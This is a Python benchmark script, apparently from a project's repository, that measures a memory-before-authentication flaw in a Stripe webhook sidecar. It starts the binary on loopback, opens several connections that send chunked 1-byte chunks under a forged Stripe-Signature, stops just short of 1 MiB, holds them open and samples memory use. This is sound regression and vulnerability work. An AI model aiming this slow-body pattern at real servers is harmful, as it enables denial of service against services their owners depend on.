#!/usr/bin/env python3
"""The memory-before-authentication attack of issue 10, finding 1, as a
measurement: CONNECTIONS clients each send a chunked body of 1-byte chunks
to /api/stripe/webhook (any fresh Stripe-Signature gets that far), stop one
byte short of 1 MiB and hold the connection open. The sidecar's peak RSS
(VmHWM) and RSS are sampled while they do.

    python3 bench/webhook-attack.py BINARY [CONNECTIONS]

BINARY is a stripe-sidecar build; it is started here on free 127.0.0.1
ports with a webhook secret and no app (none is needed: nothing is
forwarded). Only loopback traffic; the attack ends by itself.
"""

import asyncio
import os
import socket
import subprocess
import sys
import tempfile
import time

MIB = 1024 * 1024


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def memory(pid):
    fields = {}
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            key, _, value = line.partition(":")
            if key in ("VmRSS", "VmHWM"):
                fields[key] = int(value.split()[0]) / 1024
    return fields


async def attacker(port, deadline):
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    signature = f"t={int(time.time())},v1=" + "0" * 64
    writer.write(
        (
            "POST /api/stripe/webhook HTTP/1.1\r\nHost: a\r\n"
            f"Stripe-Signature: {signature}\r\nTransfer-Encoding: chunked\r\n\r\n"
        ).encode()
    )
    chunk = b"1\r\nx\r\n"
    sent = 0
    try:
        while sent < MIB - 1 and time.monotonic() < deadline:
            writer.write(chunk * 4096)
            sent += 4096
            await writer.drain()
        # One byte short: hold the connection until the deadline or a reply.
        reply = await asyncio.wait_for(reader.read(200), max(deadline - time.monotonic(), 0.1))
        return reply.split(b"\r\n", 1)[0].decode(errors="replace")
    except (asyncio.TimeoutError, ConnectionError) as error:
        return type(error).__name__
    finally:
        writer.close()


async def main():
    binary = sys.argv[1]
    connections = int(sys.argv[2]) if len(sys.argv) > 2 else 4
    port, admin = free_port(), free_port()
    with tempfile.TemporaryDirectory() as tmp:
        config = os.path.join(tmp, "config.toml")
        with open(config, "w") as f:
            f.write(
                f'[server]\nlisten = "127.0.0.1:{port}"\nadmin_listen = "127.0.0.1:{admin}"\n'
                'access_log = false\n[stripe]\nwebhook_secrets = ["whsec_attack"]\n'
            )
        sidecar = subprocess.Popen(
            [binary, "--config", config], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
        )
        try:
            for _ in range(100):
                try:
                    socket.create_connection(("127.0.0.1", port), 0.1).close()
                    break
                except OSError:
                    time.sleep(0.05)
            idle = memory(sidecar.pid)
            deadline = time.monotonic() + 30
            attack = asyncio.gather(*(attacker(port, deadline) for _ in range(connections)))
            peak = 0.0
            while not attack.done():
                peak = max(peak, memory(sidecar.pid)["VmRSS"])
                await asyncio.sleep(0.2)
            replies = await attack
            after = memory(sidecar.pid)
            print(f"connections {connections}")
            print(f"idle RSS {idle['VmRSS']:.1f} MiB")
            print(f"peak RSS {max(peak, after['VmHWM']):.1f} MiB (VmHWM {after['VmHWM']:.1f})")
            print(f"RSS after {after['VmRSS']:.1f} MiB")
            print("replies", sorted(set(replies)))
        finally:
            sidecar.terminate()
            sidecar.wait()


asyncio.run(main())
